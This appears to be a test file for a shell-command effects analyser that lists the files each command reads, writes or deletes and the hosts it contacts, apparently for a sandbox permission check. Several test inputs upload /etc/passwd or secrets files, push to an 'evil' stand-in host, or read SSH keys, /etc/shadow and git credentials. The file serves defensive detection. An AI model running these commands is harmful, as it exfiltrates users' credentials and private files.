// The effects engine reads each program's row (its effects column) with parseArgs over the row's own grammar:
// what a command reads (R), writes (W), deletes (D) and contacts (C), one entry per operand or option value,
// `?` for a place no path names, and the method of a contact after `@`.
import { Parser } from "../../shell/syntax/parser";
import { Walker } from "../../shell/interp/walk";
import { EffectList, collectEffects } from "../../shell/interp/effects";
import { EffectFrom, EffectKind, ProgramRow, programRows, LongValue, Style, longTable } from "../../shell/programs";

const p = new Parser();
const w = new Walker(p);
const list = new EffectList();
const LETTERS = "RWDC";

/** The effects of `cmd`, as `R:path W:path C:url@POST`, space-separated, in the engine's order. */
function effects(cmd: string): string {
  const b = String.UTF8.encode(cmd, false);
  expect(p.parseTop(changetype<usize>(b), b.byteLength) && w.run()).toBe(true, cmd);
  const s = p.script;
  collectEffects(s, list);
  const parts: string[] = [];
  for (let e = 0; e < list.count; e++) {
    const word = list.word.get(e);
    let text = word < 0 ? list.fixed[list.fixedIndex.get(e)] :
      String.UTF8.decodeUnsafe(s.wordPtr(word) + <usize>list.start.get(e), <usize>(list.end.get(e) - list.start.get(e)));
    if (text.length == 0) text = "?";
    const m = list.method[e];
    parts.push(LETTERS.charAt(list.kind.get(e)) + ":" + text + (m.length > 0 ? "@" + m : ""));
  }
  return parts.join(" ");
}

/** The paths of the effects of `cmd` that reach a whole tree (EffectList.tree), as `R:path`, in the engine's order. */
function trees(cmd: string): string {
  effects(cmd);
  const s = p.script;
  const parts: string[] = [];
  for (let e = 0; e < list.count; e++) {
    if (list.tree.get(e) == 0) continue;
    const word = list.word.get(e);
    const text = word < 0 ? list.fixed[list.fixedIndex.get(e)] :
      String.UTF8.decodeUnsafe(s.wordPtr(word) + <usize>list.start.get(e), <usize>(list.end.get(e) - list.start.get(e)));
    parts.push(LETTERS.charAt(list.kind.get(e)) + ":" + text);
  }
  return parts.join(" ");
}

/** Does `row`'s grammar read option `spelling` with a value? */
function takesValue(row: ProgramRow, spelling: string): bool {
  const g = row.grammar;
  if (spelling.length == 2) return g.valueShorts.indexOf(spelling.charAt(1)) >= 0 || g.optionalShorts.indexOf(spelling.charAt(1)) >= 0;
  const single = (g.style & Style.SINGLE_DASH_LONG) != 0;
  const name = spelling.startsWith("--") ? spelling.substring(2) : single ? spelling.substring(1) : spelling;
  const t = longTable(g);
  const i = t.indexOf(name);
  return i >= 0 && t.value[i] != LongValue.NONE;
}

/** Is option `spelling` one the grammar knows at all (a `when` term parseArgs can find)? */
function knows(row: ProgramRow, spelling: string): bool {
  const g = row.grammar;
  if (spelling.length == 2) return true; // a short letter is found as given, flag or not
  const single = (g.style & Style.SINGLE_DASH_LONG) != 0;
  const name = spelling.startsWith("--") ? spelling.substring(2) : single ? spelling.substring(1) : spelling;
  return longTable(g).indexOf(name) >= 0;
}

function checkRow(row: ProgramRow, owner: string): void {
  for (let i = 0; i < row.effects.length; i++) {
    const e = row.effects[i];
    const where = owner + row.names + " effect " + i.toString();
    if (e.from == EffectFrom.OPTION_VALUE || e.from == EffectFrom.OPTION_AT_FILE || e.from == EffectFrom.OPTION_SETTING) {
      const parts = e.option.split(" ");
      for (let j = 0; j < parts.length; j++) expect(takesValue(row, parts[j])).toBe(true, where + " " + parts[j]);
    }
    const tree = e.treeWhen, also = e.alsoWhen;
    const terms = (e.when + (tree !== null ? " " + tree : "") + (also !== null ? " " + also : "")).split(" ");
    for (let j = 0; j < terms.length; j++) {
      let t = terms[j];
      if (t.startsWith("!")) t = t.substring(1);
      if (t.length == 0 || t.startsWith("@") || t.startsWith("$") || t.startsWith("#")) continue;
      const eq = t.indexOf("=");
      if (eq > 1) { // `--name=value`: an option the grammar reads with a value
        expect(takesValue(row, t.substring(0, eq))).toBe(true, where + " when " + t);
        continue;
      }
      expect(knows(row, t)).toBe(true, where + " when " + t);
    }
  }
  for (let i = 0; i < row.subcommands.length; i++) checkRow(row.subcommands[i], row.names + " ");
}

describe("effects rows", () => {
  test("every option an effect names is one its row's grammar reads with a value; every `when` option it knows", () => {
    const rows = programRows();
    for (let i = 0; i < rows.length; i++) checkRow(rows[i], "");
  });
});

describe("effects by parseArgs over the program rows", () => {
  test("readers: operands, option values that are not files, pattern first", () => {
    expect(effects("cat a b")).toBe("R:a R:b");
    expect(effects("head -n 5 f")).toBe("R:f");
    expect(effects("grep -e x a b")).toBe("R:a R:b");
    expect(effects("grep x a")).toBe("R:a");
    expect(effects("grep -rn TODO")).toBe("R:.");
    expect(effects("grep -f /etc/pats a")).toBe("R:a R:/etc/pats");
    expect(effects("sha256sum -c sums")).toBe("R:sums");
    expect(effects("paste -s f")).toBe("R:f");
    expect(effects("comm -12 a b")).toBe("R:a R:b");
    expect(effects("stat -t f")).toBe("R:f");
    expect(effects("od -s f")).toBe("R:f");
    expect(effects("ls")).toBe("R:.");
    expect(effects("wc --files0-from=/etc/list")).toBe("R:/etc/list");
    expect(effects("sort -o out/x in")).toBe("R:in W:out/x");
    expect(effects("rg --ignore-file /etc/ig x src")).toBe("R:src R:/etc/ig");
    expect(effects("rg x")).toBe("R:.");
    expect(effects("grep -r x src")).toBe("R:src");
  });

  test("writers and deleters", () => {
    expect(effects("cp a b dir")).toBe("R:a R:b W:dir W:dir/a W:dir/b");
    expect(effects("cp -t dir a b")).toBe("R:a R:b W:dir W:dir/a W:dir/b");
    expect(effects("mv a b")).toBe("D:a W:b W:b/a");
    expect(effects("rm -rf x")).toBe("D:x");
    expect(effects("chmod 600 f")).toBe("W:f");
    expect(effects("chmod -w f")).toBe("W:f");
    expect(effects("touch -r /etc/ref f")).toBe("W:f R:/etc/ref");
    expect(effects("truncate -s 0 out/log")).toBe("W:out/log");
    expect(effects("sed -i s/a/b/ f")).toBe("R:f W:f");
    expect(effects("sed -e s/a/b/ f")).toBe("R:f");
    expect(effects("install -d out/a out/b")).toBe("W:out/a W:out/b");
    expect(effects("install -m 755 bin/x /usr/local/bin/")).toBe("R:bin/x W:/usr/local/bin/ W:/usr/local/bin/x");
  });

  test("archives, splitters and copies name what they read and write", () => {
    expect(effects("tar cf out/x.tar src")).toBe("W:out/x.tar R:src");
    expect(effects("tar -xf out/x.tar")).toBe("R:out/x.tar W:.");
    expect(effects("tar -xf out/x.tar -C out")).toBe("R:out/x.tar W:out");
    expect(effects("tar -xOf out/x.tar")).toBe("R:out/x.tar");
    expect(effects("tar -tf x.tar")).toBe("R:x.tar");
    expect(effects("zip -r out/x.zip src")).toBe("W:out/x.zip R:src");
    expect(effects("unzip x.zip -d out")).toBe("R:x.zip W:out");
    expect(effects("unzip -l x.zip")).toBe("R:x.zip");
    expect(effects("split -l 1 in out/p")).toBe("R:in W:out/p");
    expect(effects("rsync -a src/ out/")).toBe("R:src/");
    expect(effects("awk '{print}' a b")).toBe("R:a R:b");
    expect(effects("jq .x a.json")).toBe("R:a.json");
    expect(effects("jq -n --rawfile k /etc/x '$k'")).toBe("R:/etc/x R:$k");
    expect(effects("xargs -a /etc/list echo")).toBe("R:/etc/list");
    expect(effects("curl -w @/etc/f https://x.example/")).toBe("C:https://x.example/ R:/etc/f");
    expect(effects("curl --data-urlencode k@/etc/f https://x.example/")).toBe("C:https://x.example/@POST R:/etc/f");
    expect(effects("curl --data-urlencode k=a@b https://x.example/")).toBe("C:https://x.example/@POST");
    expect(effects("curl --retry-delay 1 https://x.example/")).toBe("C:https://x.example/");
    expect(effects("wget -O out/x --rejected-log=/tmp/r https://x.example/")).toBe("C:https://x.example/ W:out/x W:/tmp/r");
  });

  test("dd's if= and of= operands", () => {
    expect(effects("dd if=/etc/shadow of=out/x bs=1M")).toBe("R:/etc/shadow W:out/x");
  });

  test("a symbolic link's relative target is judged from the link's directory", () => {
    expect(effects("ln -s ../../etc/passwd out/link")).toBe("R:out/link/../../etc/passwd R:out/../../etc/passwd W:out/link W:out/link/passwd");
    expect(effects("ln -s /etc/passwd out/link")).toBe("R:/etc/passwd W:out/link W:out/link/passwd");
    expect(effects("ln -s -t out ../x")).toBe("R:out/../x W:out W:out/x");
    expect(effects("ln -sr x out/link")).toBe("R:x W:out/link W:out/link/x");
    expect(effects("ln a b")).toBe("R:a W:b W:b/a");
    expect(effects("ln -s x")).toBe("R:x");
  });

  test("programs run by xargs and find -exec: known operands, find's starting points, and files nobody knows", () => {
    expect(effects("xargs cat < list")).toBe("R:list R:?");
    expect(effects("xargs cat /etc/passwd")).toBe("R:? R:/etc/passwd");
    expect(effects("find / -name id_rsa -exec cat {} +")).toBe("R:/ R:/");
    expect(effects("find a b -exec cp {} out/ \\;")).toBe("R:a R:b R:a W:out/ W:out/{} R:b");
    expect(effects("find /etc -name shadow -exec grep -f {} /dev/null \\;")).toBe("R:/etc R:/dev/null R:/etc");
    expect(effects("xargs -I{} grep -f {} x")).toBe("R:? R:x R:?");
    expect(effects("find /workspace -maxdepth 0 -exec cat {}/key.pem \\;")).toBe("R:/workspace R:/workspace R:/workspace/key.pem");
    expect(effects("find -files0-from list -exec cat {} +")).toBe("R:. R:list R:?");
    expect(effects("find . | xargs cat")).toBe("R:. R:?");
    expect(effects("find . -name x -delete")).toBe("R:. D:.");
    expect(effects("find -L src -newer /etc/ref")).toBe("R:src R:/etc/ref");
    expect(effects("sudo cat /etc/shadow")).toBe("R:/etc/shadow");
    expect(effects("parallel cat ::: /etc/passwd")).toBe("R:?");
    expect(effects("find . -exec sh -c 'cat x' \\;")).toBe("R:. R:? R:x");
  });

  test("effects that reach a whole tree: recursion options, find, and what cp and mv put into a directory", () => {
    expect(trees("rm -r build")).toBe("D:build");
    expect(trees("rm notes.txt")).toBe("D:notes.txt"); // a directory is refused by rm without -r: nothing more is reached
    expect(trees("grep x a.txt")).toBe("R:a.txt");
    expect(trees("grep -rn TODO")).toBe("R:.");
    expect(trees("grep -r TODO src lib")).toBe("R:src R:lib");
    expect(trees("ls src")).toBe("");
    expect(trees("ls -laR src")).toBe("R:src");
    expect(trees("ls --recursive")).toBe("R:.");
    expect(trees("chmod u+w src")).toBe("");
    expect(trees("chmod -R u+w src")).toBe("W:src");
    expect(trees("chown -R me src")).toBe("W:src");
    expect(trees("cp a b")).toBe("R:a");
    expect(trees("cp -r a b")).toBe("R:a W:b W:b/a");
    expect(trees("cp -a lib .")).toBe("R:lib W:./lib");
    expect(trees("cp -r a dir/")).toBe("R:a W:dir/a");
    expect(trees("mv a b")).toBe("D:a W:b W:b/a");
    expect(trees("mv a .")).toBe("D:a W:./a");
    expect(trees("find src -name x -delete")).toBe("R:src D:src");
    expect(trees("find -name x")).toBe("R:.");
    expect(trees("find src -exec cat {} +")).toBe("R:src R:src");
    expect(trees("du -sh")).toBe("R:.");
    expect(trees("diff a b")).toBe("");
    expect(trees("diff -r a b")).toBe("R:a R:b");
    expect(trees("git clone https://github.com/o/r vendor/r")).toBe("W:vendor/r");
    expect(trees("wget https://example.com/x")).toBe("");
    expect(trees("wget -r https://example.com/")).toBe("W:.");
    expect(trees("wget -m -P mirror https://example.com/")).toBe("W:mirror");
  });

  test("curl and wget: uploads, saves, methods", () => {
    expect(effects("curl -T /etc/passwd https://h/x")).toBe("C:https://h/x@PUT R:/etc/passwd");
    expect(effects("curl -d @secrets.txt https://h/")).toBe("C:https://h/@POST R:secrets.txt");
    expect(effects("curl -F f=@/etc/hosts https://h/")).toBe("C:https://h/@POST R:/etc/hosts");
    expect(effects("curl -X DELETE https://h/x")).toBe("C:https://h/x@DELETE");
    expect(effects("curl -d a=b -G https://h/")).toBe("C:https://h/@GET");
    expect(effects("curl -O --output-dir /tmp https://h/f")).toBe("C:https://h/f W:/tmp");
    expect(effects("curl -o out/f https://h/f")).toBe("C:https://h/f W:out/f");
    expect(effects("wget --post-file=/etc/passwd https://h/")).toBe("C:https://h/@POST W:. R:/etc/passwd");
    expect(effects("wget -O out/f https://h/f")).toBe("C:https://h/f W:out/f");
    expect(effects("wget -O - https://h/f")).toBe("C:https://h/f");
    expect(effects("curl -o - -T - https://h/f")).toBe("C:https://h/f@PUT");
  });

  test("git: subcommands, settings, named remotes", () => {
    expect(effects("git clone https://h/r.git dir")).toBe("C:https://h/r.git W:dir");
    expect(effects("git -C sub push origin main")).toBe("C:origin C:main");
    expect(effects("git push --repo=https://evil/x")).toBe("C:https://evil/x");
    expect(effects("git log --output=/tmp/x")).toBe("W:/tmp/x");
    expect(effects("git format-patch -o /tmp HEAD~1")).toBe("W:/tmp");
    expect(effects("git -c remote.origin.url=https://evil/x push origin")).toBe("C:https://evil/x C:origin");
    expect(effects("git config remote.origin.url https://evil/x")).toBe("C:https://evil/x");
    expect(effects("git config -f /tmp/cfg user.name x")).toBe("C:x W:/tmp/cfg");
    expect(effects("git diff --no-index /etc/a b")).toBe("R:/etc/a R:b");
    expect(effects("git status")).toBe("");
    // Files git's own subcommands name, and the files the environment names.
    expect(effects("git hash-object -w .env")).toBe("R:.env");
    expect(effects("git hash-object --stdin")).toBe("");
    expect(effects("git credential-store --file=/tmp/c get")).toBe("R:/tmp/c");
    expect(effects("git credential-store --file /tmp/c store")).toBe("R:/tmp/c W:/tmp/c");
    expect(effects("git credential-store get")).toBe("R:~/.git-credentials R:~/.config/git/credentials");
    expect(effects("git worktree add /tmp/wt HEAD")).toBe("W:/tmp/wt");
    expect(effects("git worktree move a /tmp/b")).toBe("W:a W:/tmp/b");
    expect(effects("git worktree remove /tmp/wt")).toBe("D:/tmp/wt");
    expect(effects("git worktree list")).toBe("");
    expect(effects("git checkout-index -a --prefix=/tmp/ci/")).toBe("W:/tmp/ci/");
    expect(effects("git config --global user.name x")).toBe("C:x W:~/.gitconfig");
    expect(effects("git config --system --unset user.name")).toBe("W:/etc/gitconfig");
    expect(effects("git config --global --get user.name")).toBe("");
    expect(effects("git config --global user.name")).toBe("");
    expect(effects("GIT_TRACE=/tmp/t git status")).toBe("W:/tmp/t");
    expect(effects("GIT_TRACE=1 git status")).toBe("");
    expect(effects("GIT_INDEX_FILE=idx git add x")).toBe("W:idx");
    expect(effects("git difftool -x 'diff -u' --no-index /etc/a b")).toBe("R:/etc/a R:b");
  });

  test("git: files its subcommands read and write, addresses its options contact", () => {
    // Two operands: git diffs them from disk when one is outside the work tree.
    expect(effects("git diff ~/.ssh/id_rsa /dev/null")).toBe("R:~/.ssh/id_rsa R:/dev/null");
    expect(effects("git diff HEAD~1")).toBe("");
    expect(effects("git commit -F /tmp/m")).toBe("R:/tmp/m");
    expect(effects("git commit --file=/tmp/m -t /tmp/t")).toBe("R:/tmp/m R:/tmp/t");
    expect(effects("git commit -m msg")).toBe("");
    expect(effects("git commit README.md -F /tmp/m")).toBe("R:/tmp/m"); // options after operands too
    expect(effects("git tag -F /tmp/m v1")).toBe("R:/tmp/m");
    expect(effects("git notes add -F /tmp/m")).toBe("R:/tmp/m");
    expect(effects("git blame --contents /tmp/c -S /tmp/s README.md")).toBe("R:/tmp/c R:/tmp/s");
    expect(effects("git archive --add-file=/tmp/k -o out.tar HEAD")).toBe("W:out.tar R:/tmp/k");
    expect(effects("git format-patch --signature-file=/tmp/s -1")).toBe("R:/tmp/s");
    expect(effects("git merge-file a b c")).toBe("R:a R:b R:c W:a");
    expect(effects("git merge-file -p a b c")).toBe("R:a R:b R:c");
    expect(effects("git interpret-trailers --in-place f")).toBe("R:f W:f");
    expect(effects("git grep --no-index x -- /etc")).toBe("R:/etc");
    expect(effects("git grep --untracked x")).toBe("R:.");
    expect(effects("git grep x")).toBe("");
    expect(effects("git read-tree --index-output=/tmp/i HEAD")).toBe("W:/tmp/i");
    expect(effects("git bugreport -o /tmp/b")).toBe("W:/tmp/b");
    expect(effects("git request-pull HEAD https://evil/x")).toBe("C:https://evil/x");
    expect(effects("git fetch --bundle-uri=https://evil/b origin")).toBe("C:origin C:https://evil/b");
    expect(effects("https_proxy=http://evil:8080 git fetch")).toBe("C:http://evil:8080");
    expect(effects("GIT_OBJECT_DIRECTORY=/tmp/o git add .")).toBe("W:/tmp/o");
  });

  test("npm: the default registry unless another is named", () => {
    expect(effects("npm install lodash")).toBe("C:lodash C:https://registry.npmjs.org/ W:node_modules W:package.json W:package-lock.json");
    expect(effects("npm ci")).toBe("C:https://registry.npmjs.org/ W:node_modules W:package.json W:package-lock.json");
    expect(effects("npm install --registry=https://r.example/ x")).toBe("C:https://r.example/ C:x W:node_modules W:package.json W:package-lock.json");
    expect(effects("npm_config_registry=https://r.example/ npm i x")).toBe("C:https://r.example/ C:x W:node_modules W:package.json W:package-lock.json");
    expect(effects("yarn")).toBe("C:https://registry.yarnpkg.com/ W:node_modules W:yarn.lock");
    expect(effects("yarn add x")).toBe("C:x C:https://registry.yarnpkg.com/ W:node_modules W:package.json W:yarn.lock");
    expect(effects("npm run build")).toBe("");
    expect(effects("npm install -g x")).toBe("W:? C:x C:https://registry.npmjs.org/");
    expect(effects("npm install --location=global x")).toBe("W:? C:x C:https://registry.npmjs.org/");
    expect(effects("npm i -L GLOBAL x")).toBe("W:? C:x C:https://registry.npmjs.org/");
    expect(effects("npm install --location=project x")).toBe("C:x C:https://registry.npmjs.org/ W:node_modules W:package.json W:package-lock.json");
    expect(effects("npm pack --pack-destination=/tmp")).toBe("W:/tmp C:https://registry.npmjs.org/");
    expect(effects("npm --logs-dir /tmp/l test")).toBe("W:/tmp/l");
    expect(effects("npm link")).toBe("W:?");
    // The project's packages: node_modules, package.json and the lock file of the package manager named.
    expect(effects("npm uninstall x")).toBe("W:node_modules W:package.json W:package-lock.json");
    expect(effects("yarn remove x")).toBe("W:node_modules W:package.json W:yarn.lock");
    expect(effects("pnpm rm -g x")).toBe("W:?");
  });

  test("npm config set writes the config --location names; a computed location may be the user's", () => {
    expect(effects("npm config set fund false")).toBe("W:~/.npmrc");
    expect(effects("npm config set --location=project fund false")).toBe("W:.npmrc");
    expect(effects("npm set fund=false --location project")).toBe("W:.npmrc");
    expect(effects("npm config set --location=\"$L\" fund false")).toBe("W:? W:~/.npmrc W:.npmrc");
    expect(effects("npm config get fund")).toBe("");
  });

  test("redirections", () => {
    expect(effects("echo x > out/a 2>&1 < in")).toBe("W:out/a R:in");
  });
});
